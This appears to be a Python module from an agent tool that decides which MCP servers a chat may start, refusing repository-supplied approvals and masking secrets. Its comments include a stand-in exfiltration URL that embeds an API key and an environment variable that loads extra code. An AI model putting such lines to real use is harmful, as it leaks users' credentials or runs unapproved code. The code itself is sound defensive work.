"""Decide which MCP servers a chat may start: the user's own, and approved ones of a project.

A server may run any program, and a project's `.mcp.json` comes with its repository. So files of the
repository can refuse its servers, but never approve them.
"""

import json
import os
import shlex
import subprocess
from collections.abc import Iterable, Mapping, Sequence
from functools import partial
from pathlib import Path
from typing import Protocol

from msgspec import Struct

from turnlog.agent.mcp.server_config import ServerConfig, Servers, read_own_servers, read_servers
from turnlog.agent.permissions.policy import Ask, Question, Verdict, VerdictKind
from turnlog.agent.permissions.saving import change_settings, with_name
from turnlog.agent.workspace.programs import find_program
from turnlog.agent.workspace.project_directories import LOCAL_SETTINGS, SERVERS, project_root
from turnlog.agent.workspace.project_environment import without_credentials
from turnlog.agent.workspace.repository import repository_of
from turnlog.format.atomic import write_atomic
from turnlog.format.json_values import is_array
from turnlog.format.regular_files import read_object
from turnlog.secrets import mask_named
from turnlog.store.paths import Store, real_path, servers_file

ENABLED, DISABLED = "enabledMcpjsonServers", "disabledMcpjsonServers"
NOT_TRACKED = 1
"""The exit code of `git ls-files --error-unmatch` for a file that is not tracked."""
PATIENCE = 10.0
"""Timeout of git in seconds."""
SAFE_GIT = (
    "safe.bareRepository=explicit",
    "core.fsmonitor=false",
    f"core.hooksPath={os.devnull}",
)
"""Settings that keep git from running programs of a directory that poses as a repository."""


class ServerChoice(Struct, frozen=True):
    """The servers of `.mcp.json` that a settings file approves and refuses."""

    path: Path
    is_project: bool
    enables_all: bool | None = None
    enabled: tuple[str, ...] = ()
    disabled: tuple[str, ...] = ()


class ServerSettings(Protocol):
    """The settings that approval depends on."""

    @property
    def root(self) -> Path: ...
    @property
    def local_file(self) -> Path: ...
    @property
    def server_choices(self) -> Sequence[ServerChoice]: ...


class Approved(Struct, frozen=True):
    """The servers that may start."""

    configs: dict[str, ServerConfig]
    pending: dict[str, ServerConfig]
    """Servers of the project that nobody has approved or refused."""
    problems: list[str]
    ignored: tuple[str, ...] = ()
    """Servers left out because the project is not trusted."""


def find_servers(
    store: Store,
    settings: ServerSettings,
    environment: Mapping[str, str] = os.environ,
    uses_project: bool = True,
    is_trusted: bool = True,
) -> Approved:
    """Return the servers of a session.

    Of servers with the same name, the user's for this directory wins, then the project's, then the
    user's for all directories.

    Servers of an untrusted project do not start even if the user's settings name or enable them:
    a project chooses the names of its servers itself.
    """
    root = settings.root
    local, everywhere = read_own_servers(store.client_state(environment), root, environment)
    project = _project_servers(root, environment) if uses_project else Servers({}, [])
    if not is_trusted:
        project, left_out = Servers({}, []), tuple(project.configs)
    else:
        left_out = ()
    choices = settings.server_choices
    refused = {name for choice in choices for name in choice.disabled}
    asked = {name: each for name, each in project.configs.items() if name not in refused}
    granted = _granted(asked, choices) if asked else {}
    pending = {
        name: each for name, each in asked.items() if name not in {**granted, **local.configs}
    }
    # The user's servers come first, so they keep their tool names if a project's server clashes.
    own = {name: each for name, each in everywhere.configs.items() if name not in granted}
    project_only = {name: each for name, each in granted.items() if name not in local.configs}
    problems = [*local.problems, *project.problems, *everywhere.problems]
    return Approved(own | local.configs | project_only, pending, problems, left_out)


def _project_servers(root: Path, environment: Mapping[str, str]) -> Servers:
    # `"url": "https://evil.example/${ANTHROPIC_API_KEY}"` must not send the key anywhere.
    return read_servers(root / SERVERS, without_credentials(environment)).of_project()


def with_given(found: Approved, given: Servers) -> Approved:
    """Add servers given on the command line, which take precedence and need no approval."""
    pending = {name: each for name, each in found.pending.items() if name not in given.configs}
    problems = [*found.problems, *given.problems]
    return Approved(found.configs | given.configs, pending, problems, found.ignored)


async def ask_for(found: Approved, settings: ServerSettings, approve: Ask | None) -> Approved:
    """Ask the user once about each pending server, and save the answers.

    If nobody can be asked, pending servers do not start, and a problem reports them.
    """
    if approve is None:
        problems = found.problems + _note(found.pending)
        return Approved(found.configs, found.pending, problems, found.ignored)
    configs = dict(found.configs)
    for name, config in found.pending.items():
        reply = await approve(_question(name, config))
        key = ENABLED if reply.kind == "allow" else DISABLED
        change_settings(settings.local_file, partial(with_name, key=key, name=name))
        if reply.kind == "allow":
            _record(settings.local_file, name)
            configs[name] = config
    return Approved(configs, {}, found.problems, found.ignored)


def _note(pending: Mapping[str, ServerConfig]) -> list[str]:
    names = ", ".join(pending)
    note = f"MCP servers of .mcp.json that nobody approved did not start: {names} ({ENABLED})"
    return [note] if pending else []


def _question(name: str, config: ServerConfig) -> Question:
    verdict = Verdict(VerdictKind.ASK, "the project's .mcp.json names it")
    return Question(name, f"MCP server {name}", {"description": _described(config)}, verdict)


def _described(config: ServerConfig) -> str:
    """Return the command line and variables of a server, or its URL and headers.

    Variables are shown because they can run code: `NODE_OPTIONS=--require=./x.js node server.js`
    runs x.js. Values may contain keys from the user's environment, so secrets are masked.
    """
    named = config.env if config.command else config.headers
    values = (f"{name}={mask_named(name, value)}" for name, value in named.items())
    if config.command:
        return shlex.join([*values, config.command, *config.args])
    return shlex.join([config.url or "", *values])


def _granted(
    asked: Mapping[str, ServerConfig], choices: Iterable[ServerChoice]
) -> dict[str, ServerConfig]:
    """Return the servers approved by settings files that are allowed to approve."""
    choices = list(choices)
    counted = [choice for choice in choices if _may_approve(choice)]
    answers = [choice.enables_all for choice in counted if choice.enables_all is not None]
    names = {name for choice in counted for name in choice.enabled}
    names |= {name for choice in choices if choice not in counted for name in _recorded(choice)}
    takes_all = answers[-1:] == [True]
    return {name: each for name, each in asked.items() if takes_all or name in names}


def _may_approve(choice: ServerChoice) -> bool:
    """Return whether a settings file may approve servers: no repository can have written it."""
    if not choice.is_project:
        return True
    return choice.path.name == LOCAL_SETTINGS.name and _is_untracked(choice.path)


def _record(path: Path, name: str) -> None:
    """Record the user's approval of a server in a file that no repository contains."""
    file, key = servers_file(), str(real_path(path))
    known = read_object(file)
    names = known.get(key)
    approved = [*names, name] if is_array(names) else [name]
    write_atomic(file, json.dumps(known | {key: approved}, indent=1).encode())


def _recorded(choice: ServerChoice) -> set[str]:
    """Return the servers that a settings file approves and that the user approved in a chat.

    The settings file alone proves nothing: git may track it, or it may come from an archive.
    """
    names = read_object(servers_file()).get(str(real_path(choice.path)))
    return {name for name in choice.enabled if is_array(names) and name in names}


def _is_untracked(path: Path) -> bool:
    """Return whether a file is in a repository's work tree and provably not tracked."""
    # Not a git of the project, such as `node_modules/.bin/git`: it could give any answer.
    git = find_program("git", [project_root(path.parent.parent)])
    if not git or repository_of(path.parent) is None:
        return False
    options = [word for setting in SAFE_GIT for word in ("-c", setting)]
    command = [git, *options, "ls-files", "--error-unmatch", path.name]
    try:
        done = subprocess.run(
            command,
            cwd=path.parent,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
            timeout=PATIENCE,
        )
    except subprocess.TimeoutExpired:  # `.git/HEAD` may be a FIFO, for which git waits forever
        return False
    # Any other error, as in a repository that another user owns, proves nothing.
    return done.returncode == NOT_TRACKED
